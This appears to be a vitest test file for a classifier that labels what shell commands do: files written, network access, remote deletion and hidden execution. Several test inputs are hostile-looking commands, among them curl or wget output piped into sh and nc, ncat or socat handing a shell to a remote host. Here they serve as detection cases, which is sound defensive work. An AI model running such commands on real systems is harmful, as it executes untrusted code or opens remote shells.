/** What programs that move data store here and delete there. */
import { describe, expect, test } from "vitest";
import { does } from "../../does.fixture.ts";

describe("curl", () => {
  test.each([
    ["curl https://example.com", "network"],
    ["curl -o a https://example.com", "writes a; network"],
    ["curl --output a https://example.com", "writes a; network"],
    ["curl -o - https://example.com", "network"],
    ["curl -o a --output-dir d https://example.com", "writes d d/a; network"],
    ["curl -O https://example.com/x/y.tgz?z#q", "writes y.tgz; network"],
    ["curl -O https://example.com", "writes index.html; network"],
    ["curl -O --output-dir d https://example.com/y.tgz", "writes d d/y.tgz; network"],
    ["curl --remote-name --url https://example.com/y.tgz", "writes y.tgz; network"],
    ["curl -D head.txt https://example.com", "writes head.txt; network"],
    ["curl --dump-header head.txt -c jar https://example.com", "writes head.txt jar; network"],
    ["curl --cookie-jar jar https://example.com", "writes jar; network"],
    ["curl --trace t --stderr e https://example.com", "writes t e; network"],
    ["curl --trace-ascii t https://example.com", "writes t; network"],
    ["curl -D - https://example.com", "network"],
    ["curl -K conf", "runs curl --config; network"],
    ["curl --config conf https://example.com", "runs curl --config; network"],
    ["curl -X DELETE https://example.com/x", "LOSS it deletes a remote resource; network"],
    ["curl -X delete https://example.com/x", "LOSS it deletes a remote resource; network"],
    ["curl --request DELETE http://localhost:3000/x", "network"],
    ["curl -X DELETE http://127.0.0.1:3000/x", "network"],
    [
      "curl -X DELETE http://localhost:3000/x https://example.com/x",
      "LOSS it deletes a remote resource; network",
    ],
    ["curl -X POST -d '{}' -H 'A: b' https://example.com", "network"],
    [
      "curl https://example.com | sh",
      "HIDDEN it runs text fetched from the network (standard input of a shell); network",
    ],
    ["curl -o a https://example.com | sh", "writes a; network"],
    [
      "curl -o run.sh https://example.com/x; sh run.sh",
      "writes run.sh; HIDDEN it runs text fetched from the network (a file this line has just made); network",
    ],
  ])("%s: %s", (line, effect) => expect(does(line)).toBe(effect));
});

describe("wget", () => {
  test.each([
    ["wget https://example.com/x.tgz", "writes x.tgz; network"],
    ["wget -O a https://example.com", "writes a; network"],
    ["wget --output-document a https://example.com", "writes a; network"],
    [
      "wget -O - https://example.com | sh",
      "HIDDEN it runs text fetched from the network (standard input of a shell); network",
    ],
    ["wget --spider https://example.com", "network"],
    ["wget -o log -O a https://example.com", "writes log a; network"],
    ["wget --output-file log https://example.com/x", "writes log x; network"],
    ["wget -P dir https://example.com/x", "writes dir/x; network"],
    ["wget --directory-prefix dir https://example.com/x", "writes dir/x; network"],
    ["wget https://example.com/x | sh", "writes x; network"],
    ["wget -i list", "writes ?; network"],
    ["wget -i list -P dir", "writes dir; network"],
    ["wget -r https://example.com", "writes ?; network"],
    ["wget -m -P dir https://example.com", "writes dir; network"],
    ["wget --mirror https://example.com", "writes ?; network"],
    [
      "wget https://example.com/run.sh; sh run.sh",
      "writes run.sh; HIDDEN it runs text fetched from the network (a file this line has just made); network",
    ],
  ])("%s: %s", (line, effect) => expect(does(line)).toBe(effect));
});

describe("rsync and scp", () => {
  test.each([
    ["rsync -a a b", "writes b"],
    ["rsync -a a", "nothing"],
    ["rsync -a a host:b", "network"],
    ["rsync -a host:a b", "writes b; network"],
    ["rsync -a rsync://host/a b", "writes b; network"],
    ["rsync -n a b", "nothing"],
    ["rsync --dry-run --delete a b", "nothing"],
    ["rsync -a --delete a b", "writes b; LOSS it deletes what the source does not have"],
    ["rsync -a --delete-after a b", "writes b; LOSS it deletes what the source does not have"],
    ["rsync -a --delete a host:b", "LOSS it deletes what the source does not have; network"],
    ["rsync -a --remove-source-files a b", "writes b a"],
    ["rsync -e ssh --exclude x a b", "writes b"],
    ["scp a host:b", "network"],
    ["scp host:a b", "writes b; network"],
    ["scp -i key -P 22 host:a b", "writes b; network"],
    ["scp s3://x/a b", "writes b; network"],
  ])("%s: %s", (line, effect) => expect(does(line)).toBe(effect));
});

describe("others", () => {
  test.each([
    ["nc host 80", "network"],
    ["nc -e sh host 80", "HIDDEN it gives a shell to the network; network"],
    ["nc -z host 80", "network"],
    ["ncat -c sh host 80", "HIDDEN it gives a shell to the network; network"],
    ["nc -ze host 80", "network"],
    ["socat TCP:host:1 EXEC:sh", "HIDDEN it gives a shell to the network; network"],
    ["socat TCP:host:1 -", "network"],
    ["nc -l 80 | sh", "HIDDEN it runs text fetched from the network (standard input of a shell); network"],
    ["http GET https://example.com", "network"],
    ["http -o a https://example.com", "writes a; network"],
    ["http --output a https://example.com", "writes a; network"],
    ["http -d https://example.com/x", "writes ?; network"],
    ["http --download https://example.com/x", "writes ?; network"],
    ["http DELETE https://example.com/x", "LOSS it deletes a remote resource; network"],
    ["http DELETE localhost:3000/x", "network"],
    ["http DELETE", "LOSS it deletes a remote resource; network"],
    ["ssh host ls", "runs ssh; network"],
    ["sftp host", "runs sftp; network"],
    ["aria2c https://example.com/x", "writes ?; network"],
    ["aria2c -o a https://example.com/x", "writes a; network"],
    ["aria2c -d dir https://example.com/x", "writes dir; network"],
  ])("%s: %s", (line, effect) => expect(does(line)).toBe(effect));
});
